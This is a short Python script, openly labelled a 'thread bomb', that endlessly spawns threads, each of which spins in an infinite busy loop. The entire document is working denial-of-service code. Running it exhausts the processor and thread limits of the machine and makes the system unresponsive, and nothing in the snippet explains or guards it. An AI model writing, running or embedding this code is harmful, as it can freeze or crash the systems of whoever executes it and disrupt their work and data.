# thread bomb
import threading
def spin():
    while True:
        pass
while True:
    threading.Thread(target=spin).start()
